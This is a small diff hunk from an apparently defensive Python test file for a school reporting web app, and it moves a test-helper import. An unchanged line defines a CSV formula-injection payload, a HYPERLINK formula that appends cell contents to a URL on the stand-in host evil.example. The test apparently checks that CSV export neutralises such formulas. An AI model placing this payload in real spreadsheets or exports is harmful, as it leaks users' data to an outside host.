@@ -16,8 +16,8 @@ from mcdesk.server.schools import find_learner
 from mcdesk.server.web.tables import csv_text, neutral
 from tests.server.web.conftest import TrcServer
 from tests.server.web.harness import TeacherBrowser
+from tests.server.web.http import signed_in
 from tests.server.web.reports_lab import GradedClass
-from tests.server.web.test_results import signed_in
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
